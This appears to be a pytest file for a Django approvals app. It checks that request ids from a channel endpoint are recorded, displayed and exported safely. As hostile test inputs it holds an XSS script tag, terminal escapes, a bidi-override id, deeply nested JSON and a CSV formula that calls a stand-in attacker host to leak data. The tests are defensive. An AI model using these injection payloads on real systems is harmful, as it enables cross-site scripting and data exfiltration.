"""What a channel's endpoint answered, on the attempt's record and the proposal's page: the
request ids its headers and its JSON body give, and the id of what it made; bounded and
shown as text, whatever a hostile endpoint sends."""

import csv
import io
import json

import pytest
from django.urls import reverse
from django.utils import timezone

from approvals.models import Execution, Proposal
from tests.conftest import bid_adjustment, wait_until
from tests.factories import evaluated

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("celery_worker")]


def executed(body: dict) -> Proposal:
    proposal = evaluated(body)  # 6%: approved at once, executed by the worker
    wait_until(
        lambda: Proposal.objects.get(pk=proposal.pk).status in ("executed", "failed"), timeout=30
    )
    return Proposal.objects.get(pk=proposal.pk)


def executions_on_page(login, proposal: Proposal) -> str:
    page = login("auditor").get(reverse("admin:approvals_proposal_change", args=[proposal.pk]))
    assert page.status_code == 200
    text = page.content.decode()
    return text[text.index('id="proposal-executions"') :]


def test_the_ids_the_endpoint_answered_are_on_the_attempt_and_the_proposal_s_page(channel, login):
    """An operator looking the request up on the channel finds its ids in the executions
    table: the X-Request-Id header's, then the JSON body's request_id; the body's id (the
    object a Stripe-like API made) under what the channel made."""
    channel(
        200,
        headers=[("X-Request-Id", "req_hdr_1")],
        answers=b'{"id": "ch_123", "request_id": "req_body_9", "status": "ok"}',
    )

    proposal = executed(bid_adjustment("2.12"))

    assert proposal.status == "executed"
    attempt = proposal.executions.get()
    assert attempt.request_ids == ["req_hdr_1", "req_body_9"]
    assert attempt.channel_response == {"id": "ch_123"}
    table = executions_on_page(login, proposal)
    assert '<td data-label="Channel request ids">req_hdr_1, req_body_9</td>' in table
    assert "its answer's id: ch_123" in table


def test_a_refused_attempt_keeps_the_request_id_the_endpoint_gave_it(channel):
    """The operator asking the channel's people why it answered 503 names the request."""
    channel(503, 200, headers=[("Request-Id", "req_503")])

    proposal = executed(bid_adjustment("2.12"))

    first, second = proposal.executions.order_by("attempt")
    assert (first.status, first.error, first.request_ids) == (
        "failed",
        "the endpoint answered HTTP 503",
        ["req_503"],
    )
    assert (second.status, second.request_ids) == ("succeeded", ["req_503"])


def test_a_hostile_endpoint_s_ids_are_few_short_on_one_line_and_shown_as_text(channel, login):
    """Many ids, a 10,000-character one, terminal escapes, HTML and a spreadsheet formula:
    five are kept, each on one line and cut at 100 characters; the console shows them as
    text, and the audit export's CSV opens none as a formula. A body whose request_id is a
    list and whose id an object names nothing."""
    formula = '=HYPERLINK("https://evil.example/?leak","click")'
    channel(
        200,
        headers=[
            ("X-Request-Id", "<script>alert(1)</script>"),
            ("X-Request-Id", "a\x1b[31mred\x7f"),
            ("Request-Id", "x" * 10_000),
            ("Request-Id", formula),
            *[("X-Request-Id", f"req-{n}") for n in range(30)],
        ],
        answers=b'{"request_id": ["one", "two"], "id": {"made": 1}}',
    )

    proposal = executed(bid_adjustment("2.12"))

    assert proposal.status == "executed"
    attempt = proposal.executions.get()
    # The Request-Id header's come first, as the platform reads them, then X-Request-Id's.
    assert attempt.request_ids == [
        "x" * 99 + "…",
        formula,
        "<script>alert(1)</script>",
        "a [31mred",
        "req-0",
    ]
    assert attempt.channel_response == {}
    table = executions_on_page(login, proposal)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in table
    assert "<script>alert(1)" not in table
    record = login("auditor").get(reverse("admin:approvals_execution_change", args=[attempt.pk]))
    assert record.status_code == 200
    assert "<script>alert(1)" not in record.content.decode()

    today = timezone.localdate()
    export = login("auditor").get(
        "/admin/audit/export/",
        {"since": str(today), "until": str(today + timezone.timedelta(days=1)), "format": "csv"},
    )
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    executions = [row for row in rows if "approvals.execution" in row]
    assert any("HYPERLINK" in cell for row in executions for cell in row)
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize(
    ("answer", "ids", "made"),
    [
        # A number is an id; a boolean or a fraction is none.
        (b'{"request_id": 12345, "id": true}', ["12345"], {}),
        (b'{"request_id": 1.5, "id": " \\u200b "}', [], {}),  # a fraction; blank
        (b'{"request_id": "' + b"r" * 5000 + b'"}', [], {}),  # longer than is read
        (b"[" * 2000 + b"]" * 2000, [], {}),  # nested past Python's stack
        (b"\xff\xfe not UTF-8", [], {}),
        (json.dumps({"id": 7, "request_id": "r\u202eevil"}).encode(), ["r evil"], {"id": "7"}),
    ],
)
def test_an_answer_that_names_no_id_as_such_names_none_and_the_action_is_done(
    channel, answer, ids, made
):
    channel(200, answers=answer)

    proposal = executed(bid_adjustment("2.12"))

    assert proposal.status == "executed"
    attempt = Execution.objects.get(proposal=proposal)
    assert (attempt.status, attempt.request_ids, attempt.channel_response) == (
        "succeeded",
        ids,
        made,
    )
